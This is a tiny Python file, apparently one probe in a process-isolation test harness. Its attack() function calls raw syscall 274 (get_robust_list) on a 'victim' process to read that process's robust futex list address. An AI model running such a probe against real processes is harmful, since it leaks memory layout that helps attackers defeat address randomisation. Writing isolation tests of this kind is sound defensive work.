"""asks for an address in the victim by get_robust_list"""

import ctypes


def attack():
    head, size = ctypes.c_ulong(), ctypes.c_ulong()
    syscall(274, TARGETS["victim"], ctypes.byref(head), ctypes.byref(size))
    reached(f"the victim's list is at {head.value:#x}")
